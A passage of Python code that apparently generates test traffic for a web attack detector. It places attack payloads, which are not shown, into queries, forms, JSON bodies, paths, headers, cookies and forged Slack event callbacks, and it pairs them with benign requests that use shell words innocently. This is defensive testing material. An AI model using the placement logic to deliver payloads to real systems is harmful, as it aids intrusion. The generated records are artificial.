    def cookie(self, extra: str = "") -> str:
        parts = [f"session={self.token()}", self.rng.choice(CONSENTS)]
        if extra:
            parts.append(extra)
        return "; ".join(parts)

    def headers(self, mode: str, ua: str | None = None, referer: str | None = None,
                cookie_extra: str = "") -> dict[str, str]:
        """A current browser's headers: mode "xhr" (the app's fetch), "json" (a fetch with a JSON body) or
        "form" (a form submit)."""
        b = self.rng.choice(BROWSERS)
        h: dict[str, str] = {}
        if "ch" in b and ua is None:
            h["sec-ch-ua"] = b["ch"]
            h["sec-ch-ua-mobile"] = "?0"
            h["sec-ch-ua-platform"] = b["platform"]
        h["User-Agent"] = ua if ua is not None else b["ua"]
        if mode == "form":
            h["Accept"] = ("text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,"
                           "image/apng,*/*;q=0.8")
            h["Content-Type"] = "application/x-www-form-urlencoded"
            h["Origin"] = APP
            h["Sec-Fetch-Site"] = "same-origin"
            h["Sec-Fetch-Mode"] = "navigate"
            h["Sec-Fetch-User"] = "?1"
            h["Sec-Fetch-Dest"] = "document"
            h["Upgrade-Insecure-Requests"] = "1"
        else:
            h["Accept"] = "application/json, text/plain, */*"
            if mode == "json":
                h["Content-Type"] = "application/json"
                h["Origin"] = APP
            h["Sec-Fetch-Site"] = "same-origin"
            h["Sec-Fetch-Mode"] = "cors"
            h["Sec-Fetch-Dest"] = "empty"
        h["Referer"] = referer if referer is not None else APP + self.rng.choice(REFERER_PAGES)
        h["Accept-Encoding"] = b["enc"]
        h["Accept-Language"] = self.rng.choice(LANGS)
        h["Cookie"] = self.cookie(cookie_extra)
        return h

    def listing_uri(self, first: tuple[str, str] | None) -> str:
        """GET /api/users with page, per_page and (when given) one more parameter, in a varied order."""
        params = [("page", str(self.rng.randint(1, 6))), ("per_page", self.rng.choice(["20", "50", "100"]))]
        if first is not None:
            params.append(first)
        self.rng.shuffle(params)
        return "/api/users?" + form_encode(params)

    def person(self) -> dict[str, str]:
        name, email, title, dept = self.rng.choice(PEOPLE)
        return {"name": name, "email": email, "title": title, "department": dept}

    def slack_event(self, text: str, n: int) -> dict[str, Any]:
        """An Events API callback with `text`, as an attacker who cannot sign sends it."""
        ts = 1719849600 + 37 * n
        mention = self.rng.random() < 0.35
        event = {"type": "app_mention" if mention else "message", "user": self.sid("U"),
                 "text": ("<@U07B0TAPP1> " if mention else "") + text,
                 "ts": f"{ts}.{self.rng.randint(100000, 999999)}", "channel": self.sid("C")}
        body = {"token": self.sid("", 24).lower(), "team_id": "T04ACME9Q", "api_app_id": "A06HELPDSK",
                "event": event, "type": "event_callback", "event_id": self.sid("Ev"), "event_time": ts}
        return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False),
                "headers": {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)", "Accept": "*/*",
                            "Accept-Encoding": "gzip,deflate", "Content-Type": "application/json",
                            "X-Slack-Request-Timestamp": str(ts), "X-Slack-Signature": "v0=" + self.hexs(64)}}


def form_encode(params: list[tuple[str, str]]) -> str:
    """As a browser encodes a form (application/x-www-form-urlencoded)."""
    return urllib.parse.urlencode(params, quote_via=urllib.parse.quote_plus, safe="*")


def path_segment(value: str) -> str:
    """`value` as one path segment: everything but the RFC 3986 segment characters percent-encoded."""
    return urllib.parse.quote(value, safe="!$&'()*+,;=:@-._~")


def header_safe(value: str) -> bool:
    """A value a client puts in a header as it is: printable ASCII, no edge spaces."""
    return value == value.strip() and all(" " <= ch <= "~" for ch in value)


def split_param(payload: str) -> tuple[str, str]:
    name, _, value = payload.partition("=")
    return name, value


# --------------------------------------------------------------------------------------------------------------
# Placing an attack
# --------------------------------------------------------------------------------------------------------------


def place_attack(c: Client, sub: str, payload: str, place: str, k: int, n: int) -> tuple[str, dict[str, Any]]:
    """The request carrying `payload` in `place` (k: the payload's running number, to vary field names)."""
    param = sub in PARAM_SUBS
    pname, pvalue = split_param(payload) if param else ("q", payload)
    if sub in UPLOAD_SUBS:
        fields = FILE_FIELDS
    elif sub.startswith("rfi-"):
        fields = URL_FIELDS
    else:
        fields = JSON_FIELDS
    field = fields[k % len(fields)]

    if place == "query":
        return "query", {"method": "GET", "uri": c.listing_uri((pname, pvalue)), "body": "",
                         "headers": c.headers("xhr")}
    if place == "form":
        body = form_encode([("csrf_token", c.token()), (pname, pvalue)])
        return "form", {"method": "POST", "uri": "/admin/users/search", "body": body,
                        "headers": c.headers("form", referer=APP + "/admin/users/search")}
    if place == "json":
        if k % 3 == 2:   # a Slack message
            return "json", c.slack_event(c.rng.choice(SLACK_LEADS) + payload, n)
        doc: dict[str, Any] = c.person()
        if param:
            doc[pname] = pvalue
        else:
            doc[field] = payload
        return "json", {"method": "POST", "uri": "/api/users", "body": json.dumps(doc, ensure_ascii=False),
                        "headers": c.headers("json")}
    if place == "path":
        prefix = "/api/users/" if k % 3 != 1 else "/api/"
        return "path", {"method": "GET", "uri": prefix + path_segment(payload), "body": "",
                        "headers": c.headers("xhr")}
    if place == "alt":
        if k % 2 == 0:
            doc = {"title": c.person()["title"]}
            if param:
                doc[pname] = pvalue
            else:
                doc[field] = payload
            return "json", {"method": "PATCH", "uri": "/api/users/42", "body": json.dumps(doc, ensure_ascii=False),
                            "headers": c.headers("json", referer=APP + "/admin/users/42/edit")}
        name = pname if param else SETTINGS_FIELDS[k % len(SETTINGS_FIELDS)]
        body = form_encode([("csrf_token", c.token()), ("timezone", "Europe/Berlin"), (name, pvalue)])
        return "form", {"method": "POST", "uri": "/me/settings", "body": body,
                        "headers": c.headers("form", referer=APP + "/me/settings")}
    return place_header(c, sub, payload, place, k)


def place_header(c: Client, sub: str, payload: str, place: str, k: int) -> tuple[str, dict[str, Any]]:
    """`payload` in a header: the User-Agent mostly, else the Referer or a cookie (X-Filename for the upload
    titles); a value a header cannot hold as it is goes percent-encoded into a cookie."""
    uri = c.listing_uri(None) if k % 2 == 0 else "/api/users/42"
    if sub in UPLOAD_SUBS and header_safe(payload):
        h = c.headers("xhr")
        h["Content-Type"] = "application/octet-stream"
        h["X-Filename"] = payload
        h["Origin"] = APP
        return "header:X-Filename", {"method": "PUT", "uri": "/api/files/upload",
                                     "body": "%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "headers": h}
    kind = place.partition(":")[2] or ("ua", "ua", "ua", "referer", "cookie")[k % 5]
    if not header_safe(payload):
        kind = "cookie"
    if kind == "ua":
        return "header:User-Agent", {"method": "GET", "uri": uri, "body": "", "headers": c.headers("xhr", ua=payload)}
    if kind == "referer":
        return "header:Referer", {"method": "GET", "uri": uri, "body": "",
                                  "headers": c.headers("xhr", referer=payload)}
    if sub in PARAM_SUBS:
        pname, pvalue = split_param(payload)
        extra = f"{pname}={urllib.parse.quote(pvalue, safe=':/?')}"
    else:
        extra = f"{COOKIE_NAMES[k % len(COOKIE_NAMES)]}={urllib.parse.quote(payload, safe='')}"
    return "cookie", {"method": "GET", "uri": uri, "body": "", "headers": c.headers("xhr", cookie_extra=extra)}


def places_for(sub: str, start: int, i: int) -> list[str]:
    """The places of a title's i-th payload: three for the even ones, two for the odd ones, taken in turn from
    the cycle from `start` on."""
    count = 3 if i % 2 == 0 else 2
    rotating = [CYCLE[(start + j) % len(CYCLE)] for j in range(count)]
    if sub in HEADER_SUBS:
        # titles about request headers: the User-Agent, then the Referer or a cookie, then a rotating place
        second = "header:referer" if i % 2 == 0 else "header:cookie"
        others = [p for p in rotating if p != "header"]
        return ["header:ua", second, *others[:count - 2]]
    return rotating


def attacks() -> Iterator[dict[str, Any]]:
    c = Client(71_0001)
    n = 0
    for t, (category, sub, payloads) in enumerate(TITLES):
        slot = (7 * t) % len(CYCLE)
        for i, payload in enumerate(payloads):
            places = places_for(sub, slot, i)
            slot += len(places)
            for place in places:
                n += 1
                placement, req = place_attack(c, sub, payload, place, n, n)
                yield {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": placement, "payload": payload}


# --------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently
# --------------------------------------------------------------------------------------------------------------

CHAT = [
    "morning all, standup moved to 10:15 today",
    "can someone review my PR? it renames the php-fpm pool config",
    "the cron job that cleans /tmp ran twice last night, looking into it",
    "reminder: we're dropping PHP 7.4 support at the end of the quarter",
    "I ran `ls -la` on the box and the logs dir is owned by root, can ops fix?",
    "cat pictures in #random please, not here 🐱",
    "who has the keys to the server room? need to swap a disk",
    "the system status page says all green, but checkout feels slow",
    "exec summary for the board is in the drive, comments by Thursday",
    "eval of the new vendor is done: fine on SSO, weak on audit logs",
    "bash completion for our CLI is in the repo now, source it from your .bashrc",
    "powershell users: the install script also has a .ps1 version",
    "whoami on the bastion prints deploy, that's expected",
    "ping me if the build is still red after lunch",
    "curl the health endpoint and you'll see version 2.14.1",
    "we moved the .env handling into the config loader, no more dotenv in prod",
    "the .htaccess rules from the old Apache setup are translated to nginx now",
    "IIS folks: web.config in the legacy app still has the rewrite rules",
    "history of the incident is in the postmortem doc, link in the channel topic",
    "alias gs='git status' is the best thing in my shell config",
    "the id column is a bigint now, migrations ran fine",
    "for each user in the export, if the email bounces we flag it",
    "if it exists we skip the row, otherwise insert; that's the upsert logic",
    "price went from $49 to $59 per seat (about 20%), finance approved",
    "our office address: 221B Baker Street, London NW1 6XE",
    "the include/exclude lists for the backup are in backup.yml",
    "require a second reviewer for anything touching auth, please",
    "tried `npm run build && npm test` locally, both pass",
    "file this under 'works on my machine' 😅",
    "page 3 of the report has the numbers for EMEA",
    "template for the onboarding email is updated (thanks Zoë!)",
    "docs: https://www.php.net/manual/en/function.exec.php explains the return value",
    "did you see https://github.com/acme/portal/pull/482?",
    "anyone tried https://nginx.org/en/docs/http/ngx_http_rewrite_module.html?",
    "TIL: `set -euo pipefail` at the top of every script",
    "the shell script uses $HOME and ${XDG_CONFIG_HOME:-~/.config}",
    "our serializer emits a:2:{...} for legacy PHP sessions, we're migrating to JSON",
    "remember: O'Brien broke the CSV export again, quote your fields",
    "C:\\Users\\Public\\Documents has the templates on the Windows laptops",
    "run it with `python3 -m venv .venv && .venv/bin/pip install -r requirements.txt`",
    "the wget in the Dockerfile should be curl -fsSL, smaller image",
    "system design review: Tuesday 14:00, room Ada",
    "net revenue is up 8% QoQ 🎉",
    "dir listing is disabled on the static bucket, good",
    "type 'help' in the bot to see commands",
    "copy the invoice to finance@ and cc me",
    "set the timezone to Europe/Berlin in your profile",
    "start the process by filling in the form, then HR takes over",
    "echo chamber much? 😂",
    "the sleep study results are in: we all need more of it",
    "kill -9 is never the answer, send SIGTERM first",
    "head of sales is out today, ping Priya instead",
    "tail the logs with `journalctl -u gateway -f`",
    "the for loop in the report generator is O(n²), fixing",
    "less is more: shorter release notes please",
    "more coffee arrived in the kitchen ☕",
    "who moved my stapler?",
    "uname on the CI runner says Linux 6.5, fine for our tests",
    "python 3.12 upgrade: done on all services",
    "perl scripts in /opt/legacy are going away next sprint",
    "git push --force-with-lease, never --force 🙏",
    "CSV export uses ; as separator for the German locale",
    "A & B testing results: variant B wins by 3%",
    "tickets | open | closed: the table is in the weekly report",
    "`<?php` at the top of the old templates, yes, we still have 12 of those",
    "the legacy app reads php://stdin in the CLI importer only",
    "phar builds of the deployer live in tools/, don't commit new ones",
    "serialize() vs json_encode(): we use json everywhere now",
    "eval() is banned by the linter, good",
    "the system() call in the old cron wrapper is gone",
    "the /etc/hosts entry for staging is in the onboarding doc",
    "mount the volume at /var/lib/app, not /tmp",
    "/proc stats show the worker at 80% memory",
    "for /f loops in batch files are a pain, let's move the build to PowerShell",
    "Get-ChildItem is like ls for the Windows folks",
    "Invoke-WebRequest kept timing out behind the proxy, use -Proxy",
    "!! important: the release is frozen from Friday",
    "Wow!! that was fast",
    "great job team!!!",
    "the SMTP relay changed, MAIL FROM must use our domain now",
    "IMAP sync for the support inbox is back",
    "the POP3 account for the scanner is deprecated",
    "sqlite is fine for the CLI cache",
    "check that the .git folder isn't deployed to the web root",
    "renamed shell.php to shell_helpers.php in the legacy repo, nothing to do with shells",
    "the upload form accepts .jpg, .png and .pdf only",
    "the backup of wp-config.php is in the vault, not in git",
    "the id_rsa for CI rotated, update your known_hosts",
    "the path /api/users/42 returns 404 for deleted users, by design",
    "the fallback uses ${DEFAULT_REGION} when the env var is unset",
    "try `$(date +%F)` in the filename to get the day",
    "Dear team, the (annual) survey closes Friday; 5 minutes, promise",
    "OT: anyone up for lunch at 12:30?",
    "Happy birthday Mateo 🎂",
    "the cat and dog adoption drive is Saturday, poster in the lobby",
    "we'll evaluate it next quarter",
    "the Shellshock patch from 2014 is ancient history, all images are rebuilt",
    "we use the data: scheme for the tiny icons only",
    "the zip of the design assets is on the drive",
    "the expect script for the modem config is retired",
    "the file:// links in the wiki don't work in Chrome, use the https ones",
    "who's on call this weekend? I can swap with you",
    "the for/if logic in the billing job needs a test",
    "Q3 goals: 99.9% uptime, p95 < 300 ms",
    "re: the id badge, reception has a spare",
    "congrats to Anaïs and Jürgen on the launch!",
]
SEARCHES = [
    "ann", "o'neil", "Siobhán", "müller", "josé garcía", "jean-luc", "smith, john", "li wei", "dana@example.com",
    "support@", "+44 20 7946 0958", "finance", "IT ops", "R&D", "Sales & Marketing", "head of people",
    "php developer", "java", "c++", "c#", ".net", "node.js", "devops", "sysadmin", "system administrator",
    "shell scripting", "bash", "powershell", "windows admin", "linux", "unix", "cat", "catherine", "cathy",
    "exec assistant", "executive", "evaluation", "include", "required", "id 42", "user id: 1001", "#1024",
    "employee 2024-007", "ping", "curl", "who am i", "alias", "history", "historian", "etc", "etc.", "home",
    "root", "administrator", "admin", "test user", "new hire", "contractor", "intern 2024", "berlin",
    "new york", "são paulo", "zürich", "tokyo", "london office", "remote", "on leave", "inactive",
    "disabled accounts", "last login > 90 days", "created:2024", "role:admin", "team:platform", "tag:vip",
    "name:\"ann lee\"", "email:*@example.org", "50%", "100% remote", "a&b", "o'reilly", "d'angelo",
    "van der berg", "mc donald", "ß", "🙂", "for", "if", "do", "set", "type", "copy", "net", "dir", "more", "less",
    "find", "sort", "echo", "print", "id", "env", "shell", "Shell Energy", "command center", "system",
    "eval team", "data team", "file clerk", "page", "template", "config", "web", "git", "svn", "mail",
    "imap", "pop3", "smtp", "sqlite", "history teacher", "bash (the party)", "cmd", "perl", "python",
]
PEOPLE_NAMES = [
    "Ann O'Neil", "Siobhán Ní Bhriain", "José García", "Jean-Luc Picard", "Li Wei", "Zoë Clarke",
    "Mateo Fernández", "Anaïs Dubois", "Jürgen Groß", "Priya Raghunathan", "Kwame Mensah", "Olga Ivanova",
    "Ahmed Al-Farsi", "Ngozi Okafor", "Lars Ødegård", "Chloé Martin", "Mary-Kate D'Angelo", "Dr. Eva Kowalski",
    "Sean McDonald", "Yuki Sato", "Catherine Shell", "Cat Power", "Robert 'Bobby' Tables", "Iris van der Berg",
    "Eval Petrov", "Hannah Bash", "Ping Zhou", "Sam Systema", "Max Exeter", "Ida Includa",
]
TITLES_BENIGN = [
    "Systems Engineer", "Unix Administrator", "Windows Server Admin", "PowerShell Trainer",
    "Head of Command Center", "Shell Scripting Mentor", "Evaluation Lead", "Data Analyst (Finance)",
    "PHP Developer", "Senior Java Developer", "Site Reliability Engineer", "IT Support - Level 2",
    "Office Manager & Events", "Chief of Staff", "Executive Assistant to the CEO", "Release Manager",
    "Security Engineer (AppSec)", "QA Engineer - Automation", "Technical Writer, API docs", "Mail Systems Admin",
]
DEPARTMENTS = ["Platform", "R&D", "Sales & Marketing", "IT / Helpdesk", "Finance", "People Ops", "Legal",
               "Customer Success", "Security", "Design"]
LOCATIONS = ["Berlin, DE", "London, UK", "São Paulo, BR", "Zürich, CH", "Tokyo, JP", "New York, NY",
             "Remote (Lisbon)", "Dublin 2, Ireland", "Paris 75011", "Bengaluru, KA"]
BIOS = [
    "I keep our Linux fleet happy; ask me about bash, systemd and the odd awk one-liner.",
    "PHP and Laravel by day, sourdough by night.",
    "Windows admin: Group Policy, PowerShell, and far too many .msi installers.",
    "Ex-teacher (history), now writing docs. Coffee: black.",
    "I run the cat adoption Slack channel. Yes, really.",
    "Former sysadmin, now SRE. Favourite command: `uptime`.",
    "Evaluating vendors so you don't have to.",
    "Ask me about the mail servers (SMTP, IMAP, the lot).",
    "Security engineer. I will ask you where that .env file lives.",
    "Building internal tools in Python and a bit of Perl.",
    "Pronouns: she/her. Based in Dublin. On call every 4th week.",
    "10+ years in support; I read the logs so you don't have to.",
    "Data analyst: SQL, dashboards, and a healthy distrust of averages.",
    "My shell prompt has more colors than my wardrobe.",
    "Command center lead for the 2024 launch.",
    "I type `ls` in Windows terminals and `dir` on Linux. Every time.",
]
LINKS = [
    "https://www.linkedin.com/in/ann-oneil", "https://github.com/annoneil", "https://ann.dev/",
    "https://www.php.net/manual/en/", "https://docs.python.org/3/library/subprocess.html",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview",
    "https://ss64.com/nt/for.html", "https://man7.org/linux/man-pages/man1/bash.1.html",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)", "https://www.gnu.org/software/bash/manual/",
    "https://stackoverflow.com/users/123456/dana", "https://medium.com/@tombecker/alias-all-the-things-3f2a",
    "http://example.org/blog/", "https://blog.example.net/2024/05/php-8-3-upgrade-notes",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ", "https://calendly.com/rahul-mehta/30min",
    "https://mastodon.social/@aiko", "https://www.behance.net/inesduarte",
    "https://cdn.example.com/avatars/42.png?v=3", "https://gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50",
    "https://docs.google.com/document/d/1AbCdEf/edit", "https://www.meetup.com/berlin-php/",
    "https://nginx.org/en/docs/", "https://owasp.org/www-project-top-ten/",
    "https://www.example.co.uk/team/jurgen-gross", "https://ko-fi.com/catpower",
    "https://letsencrypt.org/docs/", "https://git-scm.com/docs/git-config",
    "https://sqlite.org/cli.html", "https://www.rfc-editor.org/rfc/rfc5321",
]
EXTERNAL_REFERERS = [
    "https://www.google.com/", "https://duckduckgo.com/", "https://www.bing.com/",
    "https://app.slack.com/client/T04ACME9Q/C01GENERAL", "https://teams.microsoft.com/",
    "https://mail.google.com/", "https://outlook.office.com/", "https://github.com/acme/portal/issues/311",
    "https://acme.atlassian.net/browse/HELP-1024", "https://www.linkedin.com/",
]
PATH_SEGMENTS = [
    "42", "1001", "ann.oneil", "o'neil", "josé", "me", "dana%40example.com", "cat", "catherine.shell",
    "bash", "hannah-bash", "ping.zhou", "eval-petrov", "sam_systema", "max.exeter", "ida.includa", "root-cause",
    "2024-07-01", "c#", "c++", "node.js", "php-team", "shell-energy", "history", "alias-tips", "for-you",
    "if-needed", "echo-park", "etc", "home", "web", "config-review", "include-list", "page-2", "template-v3",
    "report.pdf", "setup.sh", "install.ps1", "notes.txt", "avatar.png", "index", "Zoë", "jürgen.groß", "李伟",
    "q3 plan", "a&b", "50%", "ann lee", "what?", "#1024", "x-y_z.~", "O'Reilly & Sons", "3f2a9c",
    "00000000-0000-4000-8000-000000000042", "sqlite-export", "mail-settings", "smtp-relay", "cmd-center",
]
PATH_PREFIXES = ["/api/users/", "/api/users/", "/api/teams/", "/api/docs/", "/api/files/", "/api/tags/"]
CLIENT_UAS = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.71 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
    "AcmePeople/4.2.1 (iPhone; iOS 17.5; Scale/3.00)", "AcmePeople/4.2.0 (Android 14; Pixel 8)",
    "okhttp/4.12.0", "python-requests/2.32.3", "curl/8.7.1", "Go-http-client/2.0", "PostmanRuntime/7.39.0",
    "axios/1.7.2", "Wget/1.21.4", "Java/17.0.11", "Apache-HttpClient/4.5.14 (Java/17.0.2)", "node-fetch/1.0",
    "Dart/3.4 (dart:io)", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.2",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Twitterbot/1.0",
    "WhatsApp/2.24.12.78 A", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4.1 Safari/605.1.15",
    "insomnia/9.2.0", "HTTPie/3.2.2", "aiohttp/3.9.5", "Ruby", "GitHub-Hookshot/5a3f2c1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
    "Safari/537.36 OPR/111.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Vivaldi/6.8.3381.44",
]
COOKIE_VALUES = [
    "theme=dark", "lang=de-DE", "tz=Europe%2FBerlin", "recent_query=cat%20food",
    "last_view=%2Fadmin%2Fusers%3Fpage%3D2",
    "_ga=GA1.1.1234567890.1719849600", "sidebar=collapsed", "filter=department%3Dsales%26active%3Dtrue",
    "ajs_anonymous_id=%22b5b1c9f2-3a5e-4c4e-9d8f-0c1b2a3d4e5f%22", "density=compact",
    "last_search=shell%20energy", "recent_query=powershell%20trainer", "prefs=%7B%22cols%22%3A%5B%22name%22%2C"
    "%22email%22%5D%7D", "display_name=Ann%20O%27Neil", "last_search=o%27reilly", "filter=role%3Aadmin",
    "prefs=sort%3Dname%3Bdir%3Dasc", "recent_query=etc.", "last_search=history%20teacher", "locale=fr_FR",
    "beta=1", "onboarding=done", "last_search=%23random", "recent_query=50%25%20off", "prefs=cmd-k%3Don",
    "last_search=bash%20(the%20party)", "tour_step=3", "dismissed=banner-2024-07", "last_search=system",
    "recent_query=alias",
]
SETTINGS = [
    ("display_name", "Ann O'Neil"), ("display_name", "Zoë 🌻"), ("display_name", "Dr. Eva Kowalski"),
    ("status_text", "In meetings until 3pm"), ("status_text", "On leave until 12/08 🌴"),
    ("status_text", "Heads down: system migration"), ("status_text", "Commuting, back at 10"),
    ("signature", "Best,\nDana | Support Engineer | +1 (555) 010-2299"),
    ("signature", "-- \nTom Becker, SRE. On call? See #ops."),
    ("signature", "Cheers, Rahul (he/him)"), ("display_name", "Cat Power"),
    ("status_text", "Running the eval, ping me after"), ("status_text", "history lesson at 2 :)"),
    ("display_name", "Jean-Luc P."), ("status_text", "WFH today & tomorrow"),
    ("signature", "Ines Duarte — Finance — ext. 4412"), ("status_text", "Lunch 🍜"),
    ("display_name", "Hannah Bash"), ("status_text", "Writing PowerShell docs"),
    ("status_text", "Out sick, back Monday"), ("signature", "Thanks!\nAiko"),
    ("display_name", "Li Wei 李伟"), ("status_text", "Reviewing .htaccess migration notes"),
    ("status_text", "Deploying 2.14.1 — expect a blip"), ("signature", "Mateo | R&D | Madrid"),
    ("display_name", "Max Exeter"), ("status_text", "100% focus mode"),
    ("status_text", "If urgent, call me"), ("signature", "Sent from my phone, excuse typos"),
    ("status_text", "For the next hour: interviews"),
]
MENTIONS = [
    "hey bot, lookup user ann", "lookup user o'neil", "find Catherine Shell", "search php developer",
    "ticket title: laptop won't boot after update", "create ticket: VPN drops every hour",
    "hey bot, who is on call?", "lookup user jean-luc", "find people in R&D", "search \"head of people\"",
    "ticket title: reset my 2FA please", "create ticket: printer on 3rd floor out of toner",
    "hey bot, what's the wifi for guests?", "lookup user hannah.bash", "search system administrator",
    "find eval team", "ticket title: cannot open the .xlsx from finance", "hey bot, help",
    "create ticket: need access to the powershell training", "lookup user 1001",
    "search history teacher", "find cat power", "ticket title: email bounces (SMTP 550)",
    "hey bot, status of HELP-1024?", "lookup user zoë", "search shell energy account",
    "create ticket: new hire starting Monday, needs a laptop", "find jürgen", "search 50% remote",
    "ticket title: Outlook keeps asking for my login", "hey bot, thanks!", "lookup user li wei",
    "search c#", "find a&b team", "create ticket: move desk to 4F (near the kitchen)",
    "ticket title: the /api/users page is slow", "hey bot, list open tickets for me", "search include list",
    "lookup user ping.zhou", "find command center lead",
]


def benign() -> Iterator[dict[str, Any]]:
    c = Client(71_0002)
    prefix = NAME
    n = 0
    # Slack messages and bios (the bio saved from the browser: its headers)
    gen = chat_and_bio(CHAT, prefix)
    while True:
        try:
            chat = next(gen)
        except StopIteration as stop:
            n = stop.value
            break
        if "-bio-" in chat["id"]:
            chat = {**chat, "headers": c.headers("json"), "sub": "bio"}
        else:
            chat = {**chat, "sub": "slack"}
        yield chat
    for text in MENTIONS:
        n += 1
        req = c.slack_event(text, n)
        yield {**req, "id": f"{prefix}-slack-{n:04d}", "category": "benign", "placement": "json", "sub": "slack"}

    def mk(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{prefix}-{kind}-{n:04d}", "category": "benign", "placement": placement, "sub": kind}

    for text in SEARCHES + TITLES_BENIGN + DEPARTMENTS:
        yield mk("search", "query", {"method": "GET", "uri": c.listing_uri(("q", text)), "body": "",
                                      "headers": c.headers("xhr")})
        body = form_encode([("csrf_token", c.token()), ("q", text)])
        yield mk("search", "form", {"method": "POST", "uri": "/admin/users/search", "body": body,
                                     "headers": c.headers("form", referer=APP + "/admin/users/search")})
    for i, name in enumerate(PEOPLE_NAMES * 3):
        doc = {"name": name, "email": f"user{i}@example.com", "title": TITLES_BENIGN[i % len(TITLES_BENIGN)],
               "department": DEPARTMENTS[(i * 3) % len(DEPARTMENTS)], "location": LOCATIONS[(i * 7) % len(LOCATIONS)]}
        if i % 2 == 0:
            doc["bio"] = BIOS[i % len(BIOS)]
        if i % 3 == 0:
            yield mk("profile", "json", {"method": "PATCH", "uri": "/api/users/42",
                                          "body": json.dumps(doc, ensure_ascii=False),
                                          "headers": c.headers("json", referer=APP + "/admin/users/42/edit")})
        else:
            yield mk("profile", "json", {"method": "POST", "uri": "/api/users",
                                          "body": json.dumps(doc, ensure_ascii=False), "headers": c.headers("json")})
    for i, url in enumerate(LINKS):
        doc = {**c.person(), ("website", "avatar_url")[i % 2]: url}
        yield mk("url", "json", {"method": "PATCH" if i % 3 == 0 else "POST",
                                  "uri": "/api/users/42" if i % 3 == 0 else "/api/users",
                                  "body": json.dumps(doc, ensure_ascii=False), "headers": c.headers("json")})
        yield mk("url", "query", {"method": "GET", "uri": c.listing_uri(("q", url)), "body": "",
                                   "headers": c.headers("xhr")})
        body = form_encode([("csrf_token", c.token()), ("website", url)])
        yield mk("url", "form", {"method": "POST", "uri": "/me/settings", "body": body,
                                 "headers": c.headers("form", referer=APP + "/me/settings")})
    for i, ref in enumerate(EXTERNAL_REFERERS * 4):
        h = c.headers("xhr", referer=ref)
        h["Sec-Fetch-Site"] = "cross-site"
        uri = c.listing_uri(None) if i % 2 else "/api/users/42"
        yield mk("referer", "header:Referer", {"method": "GET", "uri": uri, "body": "", "headers": h})
    for i, seg in enumerate(PATH_SEGMENTS * 3):
        p = PATH_PREFIXES[i % len(PATH_PREFIXES)]
        yield mk("path", "path", {"method": "GET", "uri": p + path_segment(seg), "body": "",
                                   "headers": c.headers("xhr")})
    for i, ua in enumerate(CLIENT_UAS * 3):
        yield mk("ua", "header:User-Agent", {"method": "GET", "uri": c.listing_uri(None) if i % 2 else "/api/users/42",
                                              "body": "", "headers": c.headers("xhr", ua=ua)})
    for i, value in enumerate(COOKIE_VALUES * 3):
        yield mk("cookie", "cookie", {"method": "GET", "uri": c.listing_uri(None) if i % 2 else "/api/users/42",
                                       "body": "", "headers": c.headers("xhr", cookie_extra=value)})
    for i, (field, value) in enumerate(SETTINGS * 2):
        body = form_encode([("csrf_token", c.token()), ("timezone", ("Europe/Berlin", "America/New_York")[i % 2]),
                            (field, value)])
        yield mk("settings", "form", {"method": "POST", "uri": "/me/settings", "body": body,
                                       "headers": c.headers("form", referer=APP + "/me/settings")})


if __name__ == "__main__":
    print_records(attacks(), benign())
